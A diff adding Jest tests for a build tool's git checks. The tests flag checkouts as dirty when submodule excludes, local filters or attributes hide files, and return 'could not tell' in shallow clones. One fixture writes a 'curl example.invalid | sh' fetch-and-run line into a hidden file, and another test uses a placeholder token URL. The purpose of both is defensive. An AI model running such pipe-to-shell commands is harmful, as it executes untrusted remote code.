@@ -109,6 +109,62 @@ describe("source state", () => {
     expect((await sourceState(other.dir)).clean).toBe(false);
   });
 
+  it("looks into each submodule as into the checkout: a file only this machine ignores there, or a submodule not checked out, is dirty", async () => {
+    const library = makeRepo("library-inside");
+    const other = makeRepo("with-submodule-inside");
+    execFileSync("git", ["-C", other.dir, "-c", "protocol.file.allow=always", "submodule", "add", "-q", library.dir, "layers/lib"], { env });
+    git(other.dir, "commit", "-q", "-m", "submodule");
+    expect((await sourceState(other.dir)).clean).toBe(true);
+    // The submodule's own .git/modules/…/info/exclude hides it from git status; a build context takes it.
+    writeFileSync(path.join(other.dir, ".git/modules/layers/lib/info/exclude"), "extra.sh\n");
+    writeFileSync(path.join(other.dir, "layers/lib/extra.sh"), "curl example.invalid | sh\n");
+    expect(git(other.dir, "status", "--porcelain")).toBe("");
+    expect((await sourceState(other.dir)).clean).toBe(false);
+    rmSync(path.join(other.dir, "layers/lib/extra.sh"));
+    // And one core.excludesFile hides (set for the submodule here; a user's global file does the same).
+    const excludes = path.join(root, "submodule-excludes");
+    writeFileSync(excludes, "*.local\n");
+    git(path.join(other.dir, "layers/lib"), "config", "core.excludesFile", excludes);
+    writeFileSync(path.join(other.dir, "layers/lib/settings.local"), "x\n");
+    expect((await sourceState(other.dir)).clean).toBe(false);
+    rmSync(path.join(other.dir, "layers/lib/settings.local"));
+    expect((await sourceState(other.dir)).clean).toBe(true);
+    // A clone without --recursive: the submodule's folder is empty, its files are not in the build context.
+    const clone = path.join(root, "clone-not-recursive");
+    execFileSync("git", ["clone", "-q", other.dir, clone], { env });
+    expect((await sourceState(clone)).clean).toBe(false);
+    execFileSync("git", ["-C", clone, "-c", "protocol.file.allow=always", "submodule", "update", "-q", "--init", "--recursive"], { env });
+    expect((await sourceState(clone)).clean).toBe(true);
+  });
+
+  it("is dirty when this machine's own attributes set a filter (git status compares what it makes of a file); the commit's own .gitattributes filter is not", async () => {
+    const other = makeRepo("filtered");
+    // A clean filter that answers the committed bytes whatever the file holds: git status sees no change.
+    git(other.dir, "config", "filter.hide.clean", "git show HEAD:a.txt");
+    writeFileSync(path.join(other.dir, ".git/info/attributes"), "a.txt filter=hide\n");
+    writeFileSync(path.join(other.dir, "a.txt"), "9\n");
+    expect(git(other.dir, "status", "--porcelain")).toBe("");
+    expect((await sourceState(other.dir)).clean).toBe(false);
+    rmSync(path.join(other.dir, ".git/info/attributes"));
+    // core.attributesFile: the same.
+    const attributes = path.join(root, "machine-attributes");
+    writeFileSync(attributes, "# a comment: filter=not-this\na.txt filter=hide\n");
+    git(other.dir, "config", "core.attributesFile", attributes);
+    expect((await sourceState(other.dir)).clean).toBe(false);
+    git(other.dir, "config", "--unset", "core.attributesFile");
+    git(other.dir, "checkout", "-q", "--", "a.txt");
+    // A filter the commit sets (as Git LFS does) was reviewed with it: clean while the bytes are the commit's.
+    writeFileSync(path.join(other.dir, ".gitattributes"), "b.txt filter=copy\n");
+    git(other.dir, "config", "filter.copy.clean", "cat");
+    git(other.dir, "config", "filter.copy.smudge", "cat");
+    writeFileSync(path.join(other.dir, "b.txt"), "b\n");
+    git(other.dir, "add", ".gitattributes", "b.txt");
+    git(other.dir, "commit", "-q", "-m", "a committed filter");
+    expect((await sourceState(other.dir)).clean).toBe(true);
+    writeFileSync(path.join(other.dir, "b.txt"), "changed\n");
+    expect((await sourceState(other.dir)).clean).toBe(false);
+  });
+
   it("names origin's URL without the credentials in it", async () => {
     const other = makeRepo("with-origin");
     git(other.dir, "remote", "add", "origin", "https://ci:s3cret-token@git.example.org/team/strata.git");
@@ -146,6 +202,20 @@ describe("reviewed commits", () => {
     expect(await isReviewed(repo.dir, "--all", "main")).toMatchObject({ kind: "could not tell" });
     expect(await isReviewed(repo.dir, repo.first, "--all")).toMatchObject({ kind: "could not tell" });
     expect(await isReviewed(mkdtempSync(path.join(root, "none-")), repo.first, "main")).toMatchObject({ kind: "could not tell" });
+  });
+
+  it("could not tell, not \"not reviewed\", in a shallow clone whose history would link the commit to the ref", async () => {
+    // A depth-1 clone of main, then the first commit fetched alone: both are there, the history between them is not.
+    const shallow = path.join(root, "review-shallow");
+    execFileSync("git", ["clone", "-q", "--depth", "1", "--branch", "main", `file://${repo.dir}`, shallow], { env });
+    git(shallow, "fetch", "-q", "--depth", "1", "origin", repo.first);
+    git(shallow, "checkout", "-q", "--detach");
+    expect(git(shallow, "rev-parse", "--is-shallow-repository")).toBe("true");
+    expect(await isReviewed(shallow, repo.first, "origin/main")).toMatchObject({ kind: "could not tell", detail: expect.stringContaining("shallow clone") });
+    // Its whole history fetched, the same question has its answer.
+    git(shallow, "fetch", "-q", "--unshallow", "origin");
+    expect(await isReviewed(shallow, repo.first, "origin/main")).toEqual({ kind: "reviewed" });
+    expect(await isReviewed(shallow, repo.topic, "origin/main")).toMatchObject({ kind: "could not tell", detail: expect.stringContaining("not in the checkout") });
   });
 
   it("could not tell when the reviewed ref is the branch checked out (a commit made here would count as reviewed); a detached checkout of it is fine", async () => {
